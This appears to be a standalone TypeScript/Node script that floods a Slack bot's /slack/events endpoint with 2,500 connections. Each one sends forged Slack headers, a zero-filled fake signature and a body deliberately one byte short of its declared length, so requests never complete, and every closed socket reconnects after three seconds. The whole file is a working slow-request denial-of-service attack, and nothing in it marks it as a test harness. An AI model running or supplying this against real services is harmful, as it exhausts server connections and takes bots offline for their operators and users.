import { connect } from 'node:net'

const [strangers, bodyBytes, againMs] = [2_500, 255 * 1024, 3_000]
const { hostname, port } = new URL(process.env.URL ?? '')
const body = Buffer.alloc(bodyBytes - 1, 'x')

// Keeps so many requests unfinished that could be Slack's by their heads; whoever is closed comes again.
const come = (): void => {
  const socket = connect(Number(port), hostname, () => {
    const head = [
      ...['POST /slack/events HTTP/1.1', 'Host: bot', 'Content-Type: application/x-www-form-urlencoded'],
      ...[`Content-Length: ${bodyBytes}`, `X-Slack-Request-Timestamp: ${Math.floor(Date.now() / 1000)}`],
      ...[`X-Slack-Signature: v0=${'0'.repeat(64)}`, '', ''],
    ]
    socket.write(head.join('\r\n'))
    socket.write(body)
  })
  socket.on('error', () => {}).resume()
  socket.once('close', () => setTimeout(come, againMs))
}
for (let n = 0; n < strangers; n++) come()
